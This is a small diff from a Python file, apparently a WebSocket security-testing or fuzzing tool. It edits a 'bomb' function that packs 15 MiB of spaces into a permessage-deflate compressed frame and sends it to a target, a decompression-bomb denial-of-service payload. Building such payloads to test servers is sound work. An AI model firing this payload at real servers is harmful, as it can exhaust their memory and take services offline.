@@ -236,4 +236,4 @@ def bomb(target: Target) -> Done:
     packed = packer.compress(b" " * (15 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH)
     data = frame(packed[:-4], deflated=True)
     offer = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=12\r\n"
-    yield from shots(data, target, headers=offer)
+    yield from shots(data, target, init=b"", headers=offer)
